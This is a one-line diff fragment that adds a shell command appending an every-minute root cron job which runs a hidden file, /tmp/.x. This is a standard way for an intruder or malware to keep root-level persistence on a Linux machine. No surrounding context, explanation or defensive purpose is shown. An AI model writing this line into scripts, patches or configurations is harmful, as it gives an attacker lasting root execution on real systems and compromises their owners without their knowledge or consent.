@@ -1,0 +1,1 @@
+echo '* * * * * root /tmp/.x' >> /var/spool/cron/crontabs/root
